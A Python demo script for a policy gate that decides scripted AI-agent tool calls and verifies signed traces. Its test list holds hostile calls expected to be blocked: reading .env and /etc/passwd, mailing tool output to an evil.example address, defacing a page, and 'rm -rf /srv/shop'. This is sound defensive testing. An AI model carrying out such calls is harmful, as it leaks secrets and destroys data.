"""A scripted support agent, its tool calls held against a policy before they run.

A dozen calls in the shapes that agents make them (OpenAI tool calls, MCP ``tools/call``) are turned into intents
and decided in process; each leaves a signed trace. The ``gait`` command then verifies every trace, and one that was
tampered with is caught. No model, no network. Ends with 0 only if everything came out as expected.

    python demo/run.py [--out DIR]
"""

from __future__ import annotations

import argparse
import json
import os
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import gait

HERE = Path(__file__).parent
NOW = "2026-02-02T08:30:00Z"


@dataclass(frozen=True)
class Step:
    """One call of the agent: as it makes it, where its arguments come from, and what should become of it."""

    call: dict[str, Any]
    expected: str
    source: str = "user"


def openai(name: str, **arguments: Any) -> dict[str, Any]:
    """A tool call as OpenAI's API gives it: arguments are JSON text."""
    function = {"name": name, "arguments": json.dumps(arguments)}
    return {"id": f"call_{name}", "type": "function", "function": function}


def mcp(name: str, **arguments: Any) -> dict[str, Any]:
    """A tool call as an MCP client sends it."""
    params = {"name": name, "arguments": arguments}
    return {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params}


SCRIPT = [
    Step(openai("read_file", path="/srv/shop/orders/2026-02.csv"), "allow"),
    Step(openai("read_file", path="/srv/shop/.env"), "block"),
    Step(openai("read_file", path="/etc/passwd"), "block"),
    Step(mcp("query_orders", table="orders", where="status = 'late'"), "allow"),
    Step(mcp("http_get", url="https://api.parcels.example/v1/track/4711"), "allow"),
    Step(mcp("http_get", url="https://paste.example.net/raw/x1"), "block"),
    Step(openai("write_file", path="/srv/shop/reports/late.md", text="3 late parcels"), "allow"),
    Step(openai("write_file", path="/srv/shop/index.html", text="<h1>owned</h1>"), "block"),
    Step(openai("send_mail", to="ada@customers.example", body="Your parcel is late, we are sorry."), "allow"),
    Step(openai("send_mail", to="x@evil.example", body="(what the web page said)"), "block", source="tool_output"),
    Step(openai("refund", order="4711", amount=49.9), "require_approval"),
    Step(mcp("deploy", service="storefront", version="2.1"), "dry_run"),
    Step(mcp("run_shell", command="rm -rf /srv/shop"), "block"),
    Step(mcp("http_get", url="https://api.parcels.example/v1/track/4712"), "block"),  # the third within a minute
]

TOLD = {
    "endpoint_path_denied",
    "endpoint_path_not_allowlisted",
    "endpoint_domain_not_allowlisted",
    "mail_from_untrusted_source",
    "refunds_need_a_person",
    "deployments_rehearse_only",
    "rate_limit_exceeded",
}
"""The reason codes that tell most; the others of a decision stand in its trace and in ``reason_codes``."""


def name_and_arguments(call: dict[str, Any]) -> tuple[str, str, dict[str, Any]]:
    """Shape, tool and arguments of a call."""
    if call.get("method") == "tools/call":
        return "mcp", call["params"]["name"], call["params"]["arguments"]
    return "openai", call["function"]["name"], json.loads(call["function"]["arguments"])


def targets(tool: str, arguments: dict[str, Any]) -> list[dict[str, Any]]:
    """What a call touches."""
    match tool:
        case "read_file" | "write_file":
            return [{"kind": "path", "value": arguments["path"], "operation": tool.split("_")[0]}]
        case "http_get":
            return [{"kind": "url", "value": arguments["url"], "operation": "get"}]
        case "send_mail":
            return [{"kind": "host", "value": arguments["to"].partition("@")[2], "operation": "send"}]
        case "query_orders":
            return [{"kind": "table", "value": arguments["table"], "operation": "select", "read_only_hint": True}]
        case "refund":
            return [{"kind": "other", "value": f"order:{arguments['order']}", "operation": "refund"}]
        case "deploy":
            return [{"kind": "other", "value": f"service:{arguments['service']}", "operation": "deploy"}]
        case _:
            return [{"kind": "other", "value": tool, "operation": "exec"}]


def intent(tool: str, arguments: dict[str, Any], source: str) -> dict[str, Any]:
    """The intent of a call."""
    return {
        "tool_name": tool,
        "args": arguments,
        "targets": targets(tool, arguments),
        "arg_provenance": [{"arg_path": f"$.{name}", "source": source} for name in arguments],
        "context": {
            "identity": "support-agent",
            "workspace": "/srv/shop",
            "risk_class": "medium",
            "session_id": "demo",
        },
    }


def colour(verdict: str, width: int) -> str:
    """The verdict in its column, coloured on a terminal."""
    if not sys.stdout.isatty() or os.environ.get("NO_COLOR"):
        return f"{verdict:{width}}"
    code = {"allow": 32, "block": 31, "require_approval": 33, "dry_run": 36}[verdict]
    return f"\x1b[{code}m{verdict:{width}}\x1b[0m"


def verify(trace: Path, public_key: Path) -> int:
    """Verifies a trace file with the ``gait`` command; gives the exit code."""
    command = [sys.executable, "-m", "gait", "trace", "verify", str(trace), "--public-key", str(public_key), "--json"]
    return subprocess.run(command, capture_output=True, check=False).returncode


def play(out: Path) -> list[str]:
    """Plays the demo; gives what was not as expected."""
    wrong: list[str] = []
    key = gait.SigningKey.generate()
    public_key = out / "demo_public.key"
    public_key.write_text(key.verifying_key.to_base64() + "\n")
    gate = gait.Gate(gait.Policy.load(HERE / "policy.yaml"), signing_key=key)

    print(f"policy {gate.policy.digest[:12]}…  key {key.key_id[:12]}…  traces in {out}\n")
    print(f" #  {'shape':7} {'tool':13} {'target':41} {'verdict':17} why")
    print("─" * 118)
    traces: list[Path] = []
    for number, step in enumerate(SCRIPT, 1):
        shape, tool, arguments = name_and_arguments(step.call)
        proposed = intent(tool, arguments, step.source)
        decision = gate.evaluate(proposed, now=NOW)
        path = out / f"trace_{number:02}_{tool}.json"
        decision.trace.write(path)
        traces.append(path)
        target = proposed["targets"][0]["value"]
        why = next(iter(set(decision.reason_codes) & TOLD), None) or decision.matched_rule or "no rule speaks of it"
        print(f"{number:2}  {shape:7} {tool:13} {target[:41]:41} {colour(decision.verdict, 17)} {why}")
        if decision.verdict != step.expected:
            wrong.append(f"call {number} ({tool}): {decision.verdict}, expected {step.expected}")

    codes = [verify(path, public_key) for path in traces]
    print(f"\ngait trace verify: {codes.count(0)} of {len(codes)} traces verified")
    wrong += [f"{path.name} does not verify: exit {code}" for path, code in zip(traces, codes, strict=True) if code]

    tampered = out / "tampered.json"
    forged = json.loads(traces[1].read_bytes()) | {"verdict": "allow"}
    tampered.write_text(json.dumps(forged, indent=2) + "\n")
    code = verify(tampered, public_key)
    caught = "caught" if code == 2 else "NOT caught"
    print(f"gait trace verify: {traces[1].name} with its verdict changed to allow: exit {code}, {caught}")
    if code != 2:
        wrong.append(f"the tampered trace was not caught: exit {code}")
    return wrong


def main() -> int:
    """Plays and reports."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--out", type=Path, help="folder for traces and public key; a temporary one by default")
    options = parser.parse_args()
    start = time.monotonic()
    if options.out:
        options.out.mkdir(parents=True, exist_ok=True)
        wrong = play(options.out)
    else:
        with tempfile.TemporaryDirectory(prefix="gait-demo-") as temporary:
            wrong = play(Path(temporary))
    print(f"{len(SCRIPT)} calls, {time.monotonic() - start:.1f} s" + ("" if wrong else ", all as expected"))
    for line in wrong:
        print(f"unexpected: {line}", file=sys.stderr)
    return 1 if wrong else 0


if __name__ == "__main__":
    sys.exit(main())
